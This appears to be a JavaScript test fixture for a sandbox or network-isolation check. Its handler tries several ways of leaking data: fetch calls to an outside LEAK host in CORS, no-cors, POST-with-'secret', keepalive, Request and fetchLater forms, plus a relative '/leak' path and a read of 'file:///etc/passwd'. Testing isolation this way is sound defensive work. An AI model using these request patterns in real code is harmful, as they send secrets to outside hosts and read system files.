import { attempts, scope } from './attempts.mjs';
const LEAK = process.env.LEAK;
export const handler = () => attempts({
  cors: () => scope.fetch(`${LEAK}/cors`).then((response) => response.text()),
  opaque: () => scope.fetch(`${LEAK}/opaque`, { mode: 'no-cors' }),
  posted: () => scope.fetch(`${LEAK}/posted`, { method: 'POST', mode: 'no-cors', body: 'secret' }),
  keptAlive: () => scope.fetch(`${LEAK}/kept`, { method: 'POST', keepalive: true, mode: 'no-cors', body: 'secret' }),
  request: () => scope.fetch(new scope.Request(`${LEAK}/request`, { mode: 'no-cors' })),
  relative: () => scope.fetch('/leak/relative'),
  later: () => scope.fetchLater(`${LEAK}/later`),
  file: () => scope.fetch('file:///etc/passwd').then((response) => response.text()),
});
